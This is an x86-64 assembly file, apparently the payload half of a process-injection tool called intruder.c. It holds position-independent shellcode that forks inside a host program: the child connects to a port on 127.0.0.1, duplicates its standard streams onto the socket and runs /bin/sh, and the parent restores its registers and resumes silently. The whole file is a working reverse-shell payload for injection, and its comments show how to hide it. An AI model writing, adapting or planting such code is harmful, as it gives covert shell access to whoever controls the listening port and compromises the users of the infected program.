// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What intruder.c puts into programs: it forks, the child connects to a port of 127.0.0.1 and becomes a shell there, and the
 * parent goes on as if nothing had been. It may lie at any address, and leaves all registers as they were.
 */
#define SYS_DUP2 33
#define SYS_SOCKET 41
#define SYS_CONNECT 42
#define SYS_FORK 57
#define SYS_EXECVE 59
#define SYS_EXIT 60

	.section .rodata
	.globl payload, payload_end, payload_port, payload_return
payload:
	lea	-136(%rsp), %rsp	# the red zone of who was interrupted, and where to return
	pushfq
	push	%rax
	push	%rcx			# a system call changes these
	push	%r11
	mov	$SYS_FORK, %eax
	syscall
	test	%eax, %eax
	jz	child
	lea	payload(%rip), %rax
	add	payload_return(%rip), %rax
	mov	%rax, 32(%rsp)
	pop	%r11
	pop	%rcx
	pop	%rax
	popfq
	ret	$128
child:
	mov	$SYS_SOCKET, %eax
	mov	$2, %edi		# AF_INET
	mov	$1, %esi		# SOCK_STREAM
	xor	%edx, %edx
	syscall
	mov	%eax, %edi
	lea	address(%rip), %rsi
	mov	$16, %edx
	mov	$SYS_CONNECT, %eax
	syscall
	test	%eax, %eax
	jnz	end
	xor	%esi, %esi
again:
	mov	$SYS_DUP2, %eax
	syscall
	inc	%esi
	cmp	$3, %esi
	jne	again
	lea	shell(%rip), %rdi
	xor	%edx, %edx
	push	%rdx
	push	%rdi
	mov	%rsp, %rsi
	mov	$SYS_EXECVE, %eax
	syscall
end:
	mov	$1, %edi
	mov	$SYS_EXIT, %eax
	syscall
address:
	.short	2
payload_port:
	.short	0			# in network order
	.byte	127, 0, 0, 1
	.quad	0
payload_return:
	.quad	0			# from payload on
shell:
	.asciz	"/bin/sh"
payload_end:

	.section .note.GNU-stack, "", @progbits
